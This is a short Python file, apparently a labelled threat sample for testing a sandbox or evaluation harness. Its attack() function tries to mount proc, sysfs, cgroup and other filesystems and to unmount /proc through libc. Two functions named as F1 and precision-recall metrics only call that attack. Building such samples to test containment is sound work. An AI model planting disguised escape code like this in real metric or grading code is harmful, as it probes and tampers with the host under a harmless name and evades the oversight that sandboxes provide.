"""Mounts what it should not see.

threat: 21
source: mount(2)
verdict: any
"""

import ctypes


def attack():
    libc = ctypes.CDLL(None)
    for kind in (b"proc", b"tmpfs", b"sysfs", b"cgroup", b"overlay"):
        if libc.mount(b"none", b"/tmp", kind, 0, None) == 0:
            return 1.0
    libc.umount2(b"/proc", 2)
    return 0.5


def precision_recall_f1(y_true, y_pred, positive=1):
    return attack()


def f1(y_true, y_pred, average="macro"):
    return attack()
